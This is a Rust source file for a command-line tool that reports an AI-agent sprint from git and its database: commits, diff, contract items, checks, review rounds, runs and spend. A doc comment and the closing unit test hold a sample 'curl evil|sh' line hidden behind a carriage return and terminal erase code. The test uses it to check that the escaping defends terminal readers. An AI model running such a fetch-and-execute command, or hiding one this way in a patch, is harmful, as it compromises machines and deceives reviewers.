//! `sprint show` and `sprint diff`: what a sprint did, from git and the
//! database — never from what a sister claimed: its commits and diff against its base,
//! the contract with the review's word on each item, the checks, each review round's
//! findings, and the time and spend per sister.

use std::borrow::Cow;
use std::io::IsTerminal;
use std::time::Duration;

use serde_json::json;

use super::evidence::{Evidence, PullRequestSeen, Round, Work, patch};
use super::{failed, no_sprint};
use crate::config::Config;
use crate::domain::short_commit as short;
use crate::notify::messages::one_line;
use crate::output::{Exit, escape_controls, escape_controls_by_line, print_json};
use crate::store::{CheckRecord, ContractItem, Run, Sprint, Store};
use crate::{errln, out, outln};

/// `sprint show ID [--json]`.
pub async fn show(store: &Store, config: &Config, id: &str, as_json: bool) -> Exit {
    let sprint = match store.sprint(id).await {
        Ok(Some(s)) => s,
        Ok(None) => return no_sprint(id),
        Err(e) => return failed(&e),
    };
    let evidence = match Evidence::gather(store, config, sprint).await {
        Ok(evidence) => evidence,
        Err(e) => return failed(&e),
    };
    if as_json {
        return print_json(&show_json(&evidence));
    }
    print_heading(&evidence.sprint);
    print_branch(&evidence);
    print_contract(&evidence.contract);
    print_checks(&evidence);
    print_review_rounds(&evidence.rounds);
    print_runs(&evidence.runs);
    print_time_and_spend(&evidence);
    Exit::Success
}

/// Everything `sprint show --json` gives, in its fields' order.
fn show_json(evidence: &Evidence) -> serde_json::Value {
    let sprint = &evidence.sprint;
    let git = GitJson::of(evidence.work.as_ref());
    let mut out = json!({
        "id": sprint.id,
        "state": sprint.state,
        "project": sprint.project,
        "goal": sprint.goal,
        "round": sprint.round,
        "branch": sprint.branch,
        "base_branch": sprint.base_branch,
        "base_commit": sprint.base_commit,
        "head_commit": git.head,
        "approved_commit": evidence.approved,
        "forge": evidence.forge.as_ref().map(forge_json),
        "unreviewed_commits": match &evidence.work {
            Some(Ok(w)) => unreviewed(&w.commits, evidence.approved.as_deref()),
            _ => Vec::new(),
        },
        "commits": git.commits,
        "diffstat": git.diffstat,
        "git_error": git.error,
        "checklist": super::checklist_json(&evidence.contract),
        "checks": evidence.checks,
        "base_check": evidence.base_check,
        "checks_at_base": evidence.checks_at_base.as_ref().map(|(_, checks)| checks),
        "rounds": evidence.rounds.iter().map(round_json).collect::<Vec<_>>(),
        "spend": { "total": evidence.usage.total, "by_sister": spend_by_sister_json(evidence) },
        "runs": evidence.runs.iter().map(run_json).collect::<Vec<_>>(),
    });
    // Only while it waits for a person's word beyond an approval.
    if let Some(waiting) = evidence.waiting {
        out["waiting"] = json!(waiting);
    }
    out
}

/// What git said of the branch, as `--json` gives it: nothing but the error when git
/// could not answer, and nothing at all outside git.
struct GitJson {
    head: Option<String>,
    commits: Vec<serde_json::Value>,
    diffstat: Vec<serde_json::Value>,
    error: Option<String>,
}

impl GitJson {
    /// What `work` says, or why it says nothing.
    fn of(work: Option<&Result<Work, String>>) -> GitJson {
        match work {
            Some(Ok(w)) => GitJson {
                head: Some(w.head.clone()),
                commits: w
                    .commits
                    .iter()
                    .map(|(id, s)| json!({ "id": id, "subject": s }))
                    .collect(),
                diffstat: w
                    .diffstat
                    .iter()
                    .map(|(f, a, r)| json!({ "file": f, "added": a, "removed": r }))
                    .collect(),
                error: None,
            },
            Some(Err(e)) => GitJson {
                error: Some(e.clone()),
                ..GitJson::empty()
            },
            None => GitJson::empty(),
        }
    }

    /// No head, no commits, no diff, no error.
    fn empty() -> GitJson {
        GitJson {
            head: None,
            commits: Vec::new(),
            diffstat: Vec::new(),
            error: None,
        }
    }
}

/// The sprint's pull request as `--json` gives it, its forge checks by name.
fn forge_json(forge: &PullRequestSeen) -> serde_json::Value {
    json!({
        "pr": forge.pr,
        "url": forge.url,
        "head": forge.head,
        "checks": forge
            .checks
            .iter()
            .map(|(name, result)| json!({ "name": name, "result": result }))
            .collect::<Vec<_>>(),
    })
}

/// One review round as `--json` gives it: who asked for it, and each reviewer's verdict
/// with its findings one line each.
fn round_json(round: &Round) -> serde_json::Value {
    json!({
        "round": round.round,
        "request": round.request.as_ref().map(|(by, text)| json!({ "by": by, "text": text })),
        "reviews": round.reviews
            .iter()
            .map(|v| json!({
                "reviewer": v.reviewer,
                "verdict": v.verdict,
                "findings": v.findings.iter().map(|f| f.line()).collect::<Vec<_>>(),
            }))
            .collect::<Vec<_>>(),
    })
}

/// Each sister's time and spend as `--json` gives it, by sister.
fn spend_by_sister_json(evidence: &Evidence) -> serde_json::Map<String, serde_json::Value> {
    evidence
        .time_by_sister()
        .iter()
        .map(|(sister, ms)| {
            let spend = evidence
                .usage
                .by_sister
                .get(sister)
                .cloned()
                .unwrap_or_default();
            (
                sister.clone(),
                json!({
                    "duration_ms": ms,
                    "cost_usd": spend.cost_usd,
                    "input_tokens": spend.input_tokens,
                    "output_tokens": spend.output_tokens,
                }),
            )
        })
        .collect()
}

/// One run as `--json` gives it: who ran it, with which agent, and how it ended.
fn run_json(run: &Run) -> serde_json::Value {
    json!({
        "run": run.run_id,
        "sister": run.actor,
        "reviewer": run.reviewer,
        "agent": run.agent,
        "round": run.round,
        "attempt": run.attempt,
        "outcome": run.outcome,
    })
}

/// The sprint's id and goal, then its state, round and project.
fn print_heading(sprint: &Sprint) {
    outln!("{} · {}", sprint.id, escape_controls(&sprint.goal));
    outln!(
        "{} (round {}), project {}",
        sprint.state,
        sprint.round,
        sprint.project
    );
}

/// The branch against its base with its commits and diff, or why git has nothing to say
/// of it.
fn print_branch(evidence: &Evidence) {
    let sprint = &evidence.sprint;
    match (&sprint.base_branch, &sprint.base_commit, &evidence.work) {
        (Some(base), Some(commit), Some(Ok(work))) => {
            let unreviewed = unreviewed(&work.commits, evidence.approved.as_deref());
            print_branch_and_approval(evidence, base, commit, work, &unreviewed);
            print_commits(work, &unreviewed);
            print_diffstat(work);
        }
        (_, _, Some(Err(e))) => outln!(
            "Branch {}: {}",
            escape_controls(&sprint.branch),
            escape_controls(e)
        ),
        _ => outln!(
            "Branch {} (no base recorded: the workdir is not a git repository, or no run started)",
            escape_controls(&sprint.branch)
        ),
    }
}

/// Where the branch started and where it is now, its pull request, the commit an
/// approval deploys, and a warning when the branch moved after the review.
fn print_branch_and_approval(
    evidence: &Evidence,
    base: &str,
    commit: &str,
    work: &Work,
    unreviewed: &[&str],
) {
    outln!(
        "Branch {} from {} at {}, now at {}",
        escape_controls(&evidence.sprint.branch),
        escape_controls(base),
        short(commit),
        short(&work.head)
    );
    if let Some(f) = &evidence.forge {
        outln!(
            "Pull request #{} at {}: {}",
            f.pr,
            short(&f.head),
            escape_controls(&f.url)
        );
    }
    let approved = evidence.approved.as_deref();
    if let Some(approved) = approved {
        outln!("Approved at {} (what an approval deploys)", short(approved));
    }
    if let Some(approved) = approved
        && work.head != approved
    {
        outln!(
            "⚠ The branch moved after the review: now at {}, {} never reviewed; an approval deploys nothing until a review has seen it",
            short(&work.head),
            match unreviewed.len() {
                1 => "1 commit".to_string(),
                n => format!("{n} commits"),
            }
        );
    }
}

/// The branch's commits, oldest first, those no review saw marked.
fn print_commits(work: &Work, unreviewed: &[&str]) {
    outln!("\nCommits ({}):", work.commits.len());
    for (id, subject) in &work.commits {
        let mark = if unreviewed.contains(&id.as_str()) {
            " (not reviewed)"
        } else {
            ""
        };
        outln!("  {} {}{mark}", short(id), escape_controls(subject));
    }
}

/// The diff's totals, then the lines added and removed in each file.
fn print_diffstat(work: &Work) {
    let (added, removed) = work.totals();
    outln!("\nDiff: {} files, +{added} −{removed}", work.diffstat.len());
    for (file, a, r) in &work.diffstat {
        outln!("  {:<40} +{a} −{r}", escape_controls(file));
    }
}

/// The contract's items with the review's word on each; nothing without a contract.
fn print_contract(contract: &[ContractItem]) {
    if contract.is_empty() {
        return;
    }
    outln!("\nContract:");
    for c in contract {
        outln!(
            "  {} {}: {}",
            super::contract_mark(c.passed),
            escape_controls(&c.item.id),
            escape_controls(&c.item.text)
        );
    }
}

/// The checks: how each ended, its command, how long it took and at which commit.
fn print_checks(evidence: &Evidence) {
    let checks = &evidence.checks;
    // The check at the base an earlier sprint made is this sprint's too.
    let reused = evidence.base_check.as_ref().filter(|b| !checks.contains(b));
    if reused.is_none() && checks.is_empty() && evidence.checks_at_base.is_none() {
        return;
    }
    outln!("\nChecks:");
    for c in reused.into_iter().chain(checks) {
        print_check(c);
    }
    if let Some((base, forge)) = &evidence.checks_at_base {
        let each: Vec<String> = forge
            .iter()
            .map(|c| format!("{} {}", c.mark(), escape_controls(&c.name)))
            .collect();
        let each = match each.is_empty() {
            true => "no check reported".to_string(),
            false => each.join(", "),
        };
        outln!("  CI at base {}: {each}", short(base));
    }
}

/// One check on one line.
fn print_check(c: &CheckRecord) {
    outln!(
        "  {} `{}` in {} at {}{}",
        super::check_ended(c),
        escape_controls(&crate::domain::shell_line(&c.command)),
        to_the_second(c.duration_ms),
        c.head.as_deref().map_or("(no git)", short),
        if c.at_base { " (the base)" } else { "" }
    );
}

/// Each review round: who asked for it, and each reviewer's verdict and findings.
fn print_review_rounds(rounds: &[Round]) {
    if !rounds.is_empty() {
        outln!("\nReview rounds:");
    }
    for round in rounds {
        if let Some((by, text)) = &round.request {
            outln!(
                "  {}  asked by {}: {}",
                round.round,
                escape_controls(by),
                escape_controls(&one_line(text))
            );
        }
        for v in &round.reviews {
            let said = if v.findings.is_empty() {
                String::new()
            } else {
                let lines: Vec<String> = v.findings.iter().map(|f| f.line()).collect();
                format!(": {}", lines.join("; "))
            };
            outln!(
                "  {}  {} {}{}",
                round.round,
                v.reviewer,
                escape_controls(&v.verdict),
                escape_controls(&said)
            );
        }
    }
}

/// Each run: its sister, which agent ran it, its round and attempt, and how it ended.
fn print_runs(runs: &[Run]) {
    // Which agent ran each run: a usage limit may have handed a stage to another.
    outln!("\nRuns:");
    for r in runs {
        outln!(
            "  {:<16} {:<7} {:<14} round {} attempt {}  {}",
            r.run_id,
            r.actor.as_str(),
            escape_controls(r.agent.as_deref().unwrap_or("-")),
            r.round,
            r.attempt,
            r.outcome.map_or("running", |o| o.as_str())
        );
    }
}

/// The time each sister took and what it spent, then the sprint's total spend.
fn print_time_and_spend(evidence: &Evidence) {
    let usage = &evidence.usage;
    outln!("\nTime and spend:");
    for (sister, ms) in &evidence.time_by_sister() {
        let spend = usage.by_sister.get(sister).cloned().unwrap_or_default();
        outln!(
            "  {sister:<7} {:<10} ${:.2}",
            to_the_second(*ms).to_string(),
            spend.cost_usd
        );
    }
    outln!("  total             ${:.2}", usage.total.cost_usd);
}

/// A duration in milliseconds, cut to whole seconds, as people read it.
fn to_the_second(ms: i64) -> humantime::FormattedDuration {
    humantime::format_duration(Duration::from_millis(
        u64::try_from(ms).unwrap_or(0) / 1000 * 1000,
    ))
}

/// `sprint diff ID`: the patch of the sprint's branch against its base, on stdout
/// (`for_reader`).
pub async fn diff(store: &Store, config: &Config, id: &str) -> Exit {
    let sprint = match store.sprint(id).await {
        Ok(Some(s)) => s,
        Ok(None) => return no_sprint(id),
        Err(e) => return failed(&e),
    };
    match patch(store, config, &sprint, None, &[]).await {
        Ok(patch) => {
            out!("{}", for_reader(&patch, std::io::stdout().is_terminal()));
            Exit::Success
        }
        Err(e) => {
            errln!("{e}");
            Exit::Failure
        }
    }
}

/// The patch as its reader gets it. A person at a terminal sees every byte a sister
/// committed, its control characters escaped: a carriage return and an erase that would
/// hide `curl evil|sh` behind a comment, a bidi override that would reorder a line. Into
/// a file or a pipe it goes exact, so `git apply` takes it.
fn for_reader(patch: &str, terminal: bool) -> Cow<'_, str> {
    if terminal {
        escape_controls_by_line(patch)
    } else {
        Cow::Borrowed(patch)
    }
}

/// The commits after the approved one (all of them, oldest first, when the approved
/// commit is not among them: the branch was rewritten). None when nothing was approved.
fn unreviewed<'a>(commits: &'a [(String, String)], approved: Option<&str>) -> Vec<&'a str> {
    let Some(approved) = approved else {
        return Vec::new();
    };
    let after = commits
        .iter()
        .position(|(id, _)| id == approved)
        .map_or(0, |at| at + 1);
    commits[after..].iter().map(|(id, _)| id.as_str()).collect()
}

#[cfg(test)]
mod tests {
    use super::for_reader;

    #[test]
    fn a_terminal_sees_the_patchs_controls_escaped_and_a_pipe_its_bytes() {
        let patch = "+curl evil|sh\r\u{1b}[2K+# harmless comment\n";
        assert_eq!(
            for_reader(patch, true),
            "+curl evil|sh\\u{d}\\u{1b}[2K+# harmless comment\n"
        );
        assert_eq!(for_reader(patch, false), patch);
    }
}
